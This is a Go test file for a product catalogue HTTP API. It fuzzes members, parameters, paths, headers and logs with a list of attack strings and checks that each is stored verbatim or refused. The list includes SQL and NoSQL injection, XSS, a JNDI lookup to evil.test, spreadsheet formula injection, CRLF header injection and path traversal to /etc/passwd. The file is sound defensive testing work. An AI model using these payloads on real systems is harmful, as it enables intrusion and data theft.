package httpapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"maps"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/productkit-go/productkit/httpapi"
	"github.com/productkit-go/productkit/product"
)

// attacks are texts that do harm to those who take them for more than texts.
var attacks = []string{
	// SQL, LIKE and full-text search
	`' OR 1=1 -- `, `' OR '1'='1`, `"; DROP TABLE productkit_products; --`, `a') UNION SELECT 1,2 #`, `\`, `a\' OR 1=1`, `?`, `:name $1 @@version`, `a/**/b`, `a;b`,
	`%`, `%_`, `_`, `A%`, `+a -b ~c* (d) "e" <f >g @4`, `a NEAR(b c) OR d:e*`,
	// HTML, templates and loggers
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `{{7*7}}${7*7}<%= 7*7 %>`, `${jndi:ldap://evil.test/a}`, `%s%n%x%!d`,
	// spreadsheets
	`=1+cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1)`, `'=1`, `''`,
	// lines, terminals and what is not to be seen
	"a\r\nSet-Cookie: b=c", "a\nlevel=ERROR msg=b", "\x1b[2Jred", "a\x00b", "a\tb", "a\x7fb", "a\u0085b", "a\u2028b", "\u202egnp.exe", "a\u200bb", "\ufeffa", "e\u0301", "é",
	// paths, JSON and what is neither
	`../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `C:\x`, `file:///etc/passwd`, `"},"price":{"amount":0},"x":{"y":"`, `{"$ne":null}`, `null`, `*`, `,`,
	"\xc0\xaf", "a\xff", "\xed\xa0\x80", strings.Repeat("x", 300),
}

// quoted is a text as a JSON string, also one that cannot be one.
func quoted(text string) string {
	if !utf8.ValidString(text) {
		return `"` + text + `"`
	}
	b, _ := json.Marshal(text)
	return string(b)
}

// object is a JSON object of members that are JSON.
func object(members map[string]string) string {
	var b []string
	for name, value := range members {
		b = append(b, quoted(name)+":"+value)
	}
	return "{" + strings.Join(b, ",") + "}"
}

// says reports whether JSON holds a text, to the byte, in a name or a value.
func says(document []byte, text string) bool {
	for d := json.NewDecoder(bytes.NewReader(document)); ; {
		token, err := d.Token()
		if err != nil {
			return false
		}
		if said, ok := token.(string); ok && strings.Contains(said, text) {
			return true
		}
	}
}

// refused deletes what a problem names from what was sent, and fails if it names nothing of that.
func refused[M ~map[string]V, V any](t *testing.T, p problemDoc, sent M, where string) {
	t.Helper()
	before := len(sent)
	for _, e := range p.Errors {
		delete(sent, e.Field[:strings.IndexAny(e.Field+".", ".[")])
	}
	require.Less(t, len(sent), before, "%s: %v", where, p)
}

// members are those of a product, with § for a text and ¶ for what stands within its quotes.
var members = map[string]string{
	"sku": "§", "name": "§", "description": "§", "status": "§", "publish_at": "§", "unpublish_at": "§", "group": "§", "category": "§", "vendor": "§",
	"barcode": "§", "tags": "[§]", "options": `{"Size":§,§:"M"}`, "price": `{"amount":1,"currency":§}`, "compare_at": `{"amount":1,"currency":§}`,
	"images": `[{"url":"https://a.example/¶","alt":§}]`, "attributes": `{"a":{"b":[§],§:1}}`, "backorder": "§", "weight_grams": "§",
	"id": "§", "version": "§", "created_at": "§", "updated_at": "§", "deleted_at": "§", "stock": "§",
}

// Whatever stands in whatever member of a product is kept to the byte, or refused by the member's
// name, and no other product notices.
func TestAttacksInMembersAreKeptToTheByteOrRefused(t *testing.T) {
	t.Parallel()
	for _, schema := range []string{"Content", "Assigned", "DraftOfSKU"} {
		for name := range theContract().doc.Components.Schemas[schema].Value.Properties {
			require.Contains(t, members, name)
		}
	}
	a := within(t, sqliteStore(t))
	other, _ := a.create("other")
	before := a.do("GET", "/products/"+other.ID+"?include=stock", "").is(200)
	kept := make(map[string]int)
	for i, attack := range attacks {
		where := fmt.Sprintf("%.100q", attack)
		attacked := maps.Clone(members)
		var r answer
		for r.status != 201 && len(attacked) > 0 {
			body := map[string]string{"sku": fmt.Sprintf(`"S%d"`, i), "name": `"n"`, "price": `{"amount":1,"currency":"EUR"}`}
			for name, form := range attacked {
				text := quoted(attack)
				body[name] = strings.NewReplacer("§", text, "¶", text[1:len(text)-1]).Replace(form)
			}
			r = a.do("POST", "/products", object(body))
			if !utf8.ValidString(attack) {
				r.fails(400, "malformed-body")
				break
			}
			if r.isOneOf(201, 422).status == 422 {
				refused(t, r.problem(), attacked, where)
			}
		}
		if r.status != 201 {
			continue
		}
		var got map[string]json.RawMessage
		r.json(&got)
		for name := range attacked {
			require.True(t, says(got[name], attack), "%s in %s", where, name)
			kept[name]++
		}
		require.Equal(t, r.body, a.do("GET", r.header.Get("Location")[len("/v1"):], "").is(200).body, where)
	}
	for _, name := range []string{"sku", "name", "description", "group", "category", "vendor", "tags", "options", "images", "attributes"} {
		require.Greater(t, kept[name], 3, name)
	}
	require.Equal(t, before.body, a.do("GET", "/products/"+other.ID+"?include=stock", "").is(200).body)
}

// textual reports whether a product can have the text there.
func textual(set func(p *product.Product)) bool {
	p := product.Product{SKU: "A", Name: "n", Price: product.Money{Currency: "EUR"}}
	set(&p)
	return product.Draft{Product: p}.Validate() == nil
}

// What was kept is found by the same text and by no other, on every engine, and leaves as it came.
func TestAttacksThatAreKeptAreOnlyText(t *testing.T) {
	t.Parallel()
	eachEngine(t, func(t *testing.T, a *api) {
		a.lax = true
		a.create("other", `"vendor":"a","tags":["a"],"group":"a","category":"a","stock":1`)
		var bodies []string
		filters := make(map[string]url.Values)
		for i, attack := range attacks {
			if aimsAtSQL := i < 16; !aimsAtSQL && i%5 > 0 || !textual(func(p *product.Product) { p.Name, p.Tags = attack, []string{attack} }) {
				continue
			}
			text, filter := quoted(attack), url.Values{"vendor": {attack}, "tag": {attack}, "group": {attack}}
			body := fmt.Sprintf(`{"sku":"S%d","stock":1,"price":{"amount":1,"currency":"EUR"},"name":%s,"description":%[2]s,"vendor":%[2]s,"tags":[%[2]s],"group":%[2]s,"options":{%[2]s:%[2]s},"attributes":{%[2]s:%[2]s}`, i, text)
			if textual(func(p *product.Product) { p.Category = attack }) {
				filter.Set("category", attack)
				body += `,"category":` + text
			}
			bodies, filters[attack] = append(bodies, `{"op":"create","product":`+body+"}}"), filter
		}
		require.Greater(t, len(bodies), 15)
		require.Contains(t, string(a.do("POST", "/products/batch", `{"items":[`+strings.Join(bodies, ",")+`]}`).is(200).body), `"failed":0`)

		for attack, filter := range filters {
			items := a.list(filter.Encode()).Items
			require.Len(t, items, 1, "%q", attack)
			require.Equal(t, attack, items[0].Name)
			require.Equal(t, attack, items[0].Vendor)
			a.do("GET", "/products?"+url.Values{"q": {attack}}.Encode(), "").is(200)
			a.do("GET", "/products?"+url.Values{"sku_prefix": {attack}}.Encode(), "").isOneOf(200, 400)
			require.True(t, says(a.do("PATCH", "/groups/"+url.PathEscape(attack), `{"barcode":"4006381333931"}`).is(200).body, attack))
			a.do("POST", "/products/"+items[0].ID+"/stock", `{"delta":1,"reason":`+quoted(attack)+`}`).is(200)
			require.True(t, says(a.do("GET", "/products/"+items[0].ID+"/history", "").is(200).body, attack))
			if !strings.Contains("./..", attack) {
				path := "/reservations/" + url.PathEscape(attack)
				require.True(t, says(a.do("PUT", path, `{"items":[{"sku":"`+items[0].SKU+`","quantity":1}]}`).is(201).body, attack))
				require.True(t, says(a.do("GET", path, "").is(200).body, attack))
			}
		}
		require.EqualValues(t, 1, a.do("GET", "/skus/other", "").is(200).item().Version)

		exported := a.do("GET", "/export", "").is(200)
		rows, err := csv.NewReader(strings.NewReader(string(exported.body))).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, len(filters)+2)
		for _, cell := range slices.Concat(rows...) {
			require.False(t, cell != "" && strings.Contains("=+-@\t\r\n", cell[:1]), "a spreadsheet runs %q", cell)
		}
		again := a.do("POST", "/import", string(exported.body), "Content-Type", "text/csv").is(200)
		require.Contains(t, string(again.body), fmt.Sprintf(`"unchanged":%d,"refused":0`, len(rows)-1))
	})
}

// A parameter is a value and never more: it selects nothing, or is refused by name. Operations with
// the same parameters read them with the same code.
func TestAttacksInParametersSelectNothing(t *testing.T) {
	t.Parallel()
	a, id := fuzzed(t)
	tried := make(map[string]bool)
	for _, op := range everyOperation() {
		same := strings.Join(op.query, " ")
		if op.query == nil || tried[same] {
			continue
		}
		tried[same] = true
		path := strings.NewReplacer(unknownID, id, "/skus/none", "/skus/A", "/groups/none", "/groups/g").Replace(op.path)
		for _, attack := range attacks {
			where := fmt.Sprintf("%s %s %.100q", op.method, op.template, attack)
			query := url.Values{attack: {"1"}}
			p := a.query(op.method, path, query.Encode(), []byte("{}"), op.media).fails(400, "invalid-parameter")
			require.Equal(t, "unknown", p.Errors[0].Code, where)
			delete(query, attack)
			for _, name := range op.query {
				query.Set(name, attack)
			}
			for len(query) > 0 {
				r := a.query(op.method, path, query.Encode(), []byte("{}"), op.media)
				if r.status == 400 {
					if r.slug() == "bad-cursor" {
						query.Del("cursor")
						continue
					}
					refused(t, r.problem(), query, where)
					continue
				}
				if r.isOneOf(200, 422); op.path == "/products" && (len(query) > 1 || !query.Has("q")) { // q finds words
					require.Contains(t, string(r.body), `"items":[]`, "%s %v", where, query)
				}
				break
			}
		}
	}
	require.Greater(t, len(tried), 5)
}

// A path's value is one too.
func TestAttacksInPathsAreNames(t *testing.T) {
	t.Parallel()
	a, _ := fuzzed(t)
	bodies := map[string]string{"PUT /skus/{sku}": `{"name":"n","price":{"amount":1,"currency":"EUR"}}`, "PUT /reservations/{key}": `{"items":[{"sku":"A","quantity":1}]}`,
		"POST /products/{id}/stock": `{"delta":1}`, "PUT /products/{id}/stock": `{"on_hand":1}`, "PATCH /products/{id}": "{}", "PATCH /groups/{group}": "{}"}
	made := 0
	for _, op := range everyOperation() {
		name := op.method + " " + op.template
		before, rest, templated := strings.Cut(op.template, "{")
		_, after, _ := strings.Cut(rest, "}")
		require.Equal(t, templated && op.media != "", bodies[name] != "", name)
		for _, attack := range attacks {
			if !templated {
				break
			}
			r := a.do(op.method, before+url.PathEscape(attack)+after, bodies[name]).isOneOf(200, 201, 404, 422)
			switch {
			case r.status < 300:
				made++
				require.True(t, says(r.body, attack), "%s: %q", name, attack)
			case r.status == 422:
				require.NotEmpty(t, r.problem().Errors, "%s: %q", name, attack)
			}
		}
	}
	require.Greater(t, made, 30)
}

// A header field makes no other.
func TestAttacksInHeadersMakeNoHeaders(t *testing.T) {
	t.Parallel()
	a, id := fuzzed(t)
	more := map[string][]string{"POST /products": {"X-Request-Id", "Content-Type", "Content-Encoding"}, "POST /import": {"Content-Type"}, "GET /changes": {"Accept"}, "GET /export": {"Accept"}}
	tried := make(map[string]bool)
	for _, op := range everyOperation() {
		for _, name := range append(op.headers, more[op.method+" "+op.path]...) {
			same := op.method + op.media + name
			if tried[same] && name != "Accept" || op.path == "/docs" || op.path == "/openapi.json" {
				continue
			}
			tried[same] = true
			for _, attack := range attacks {
				headers := []string{name, attack}
				if name == "Last-Event-ID" {
					headers = append(headers, "Accept", "text/event-stream")
				}
				body := ""
				if op.media != "" {
					body = "{}"
				}
				r := a.do(op.method, strings.Replace(op.path, unknownID, id, 1), body, headers...)
				require.Less(t, r.status, 500, "%s %s, %s: %q", op.method, op.template, name, attack)
				r.hasSaneHeaders()
			}
		}
	}
}

var saneID, saneLocation = regexp.MustCompile(`^[0-9A-Za-z._~=+/-]{1,128}$`), regexp.MustCompile(`^((/v1)?/products/[0-9a-f-]{36})?$`)

// hasSaneHeaders checks that nobody takes the header fields for more than they are.
func (r answer) hasSaneHeaders() {
	r.t.Helper()
	for name, values := range r.header {
		text := name + strings.Join(values, "")
		require.Equal(r.t, -1, strings.IndexFunc(text, func(c rune) bool { return c > unicode.MaxASCII || !unicode.IsPrint(c) }), "%q", text)
	}
	require.Regexp(r.t, saneID, r.header.Get("X-Request-Id"))
	require.Regexp(r.t, saneLocation, r.header.Get("Location"))
}

// counting is a slog.Handler that counts what it is told.
type counting struct {
	slog.Handler
	n *int
}

func (c counting) Handle(ctx context.Context, r slog.Record) error {
	*c.n++
	return c.Handler.Handle(ctx, r)
}

func TestAttacksMakeNoLinesInTheLog(t *testing.T) {
	t.Parallel()
	for name, handler := range map[string]func(*syncBuffer) slog.Handler{
		"text": func(b *syncBuffer) slog.Handler { return slog.NewTextHandler(b, nil) },
		"json": func(b *syncBuffer) slog.Handler { return slog.NewJSONHandler(b, nil) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var log syncBuffer
			said := 0
			h, err := httpapi.NewHandler(product.NewService(failing{errors.New(strings.Join(attacks, ""))}, nil), &httpapi.Options{Logger: slog.New(counting{handler(&log), &said})})
			require.NoError(t, err)
			a := &api{t: t, url: "http://shop.test", client: &http.Client{Transport: inProcess{h}}, lax: true}
			for _, attack := range attacks {
				a.do("GET", "/skus/A", "", "X-Request-Id", attack).fails(500, "internal")
				a.do("POST", "/import", "sku,name,price,currency,"+quoted(attack)+"\nA,b,1,EUR,"+quoted(attack)+"\n", "Content-Type", "text/csv", "X-Request-Id", attack)
			}
			lines := strings.Split(strings.TrimSuffix(log.String(), "\n"), "\n")
			require.Len(t, lines, said)
			require.Greater(t, said, len(attacks))
			for _, line := range lines {
				require.True(t, strings.HasPrefix(line, "time=") || json.Valid([]byte(line)), "%q", line)
				require.Equal(t, -1, strings.IndexFunc(line, func(c rune) bool { return c < ' ' }), "%q", line)
			}
		})
	}
}
